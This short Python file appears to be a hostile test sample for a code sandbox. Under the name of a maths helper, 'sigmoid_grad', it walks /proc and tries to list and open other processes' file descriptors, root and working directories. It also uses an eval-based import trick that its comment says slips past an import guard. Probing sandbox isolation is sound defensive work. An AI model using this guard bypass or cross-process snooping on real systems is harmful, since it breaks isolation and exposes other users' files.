"""Hostile: reach into the warm parent's or the next job's child's file descriptors through /proc."""
_m = lambda name: eval("__import__(name)", {"name": name})  # slips past the import guard: the sandbox must hold
os = _m("os")


def sigmoid_grad(x):
    me = os.getpid()
    seen = []
    for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me):
        for what in ("fd", "root", "cwd", "map_files"):
            path = f"/proc/{pid}/{what}"
            try:
                entries = os.listdir(path)
                seen.append(f"{path}: LISTED {entries[:8]}")
                for entry in entries[:8]:
                    try:
                        os.close(os.open(f"{path}/{entry}", os.O_RDONLY))
                        seen.append(f"{path}/{entry}: OPENED")
                    except OSError as exc:
                        seen.append(f"{path}/{entry}: {type(exc).__name__}")
            except OSError as exc:
                seen.append(f"{path}: {type(exc).__name__}")
    raise RuntimeError(" | ".join(seen)[:3800])
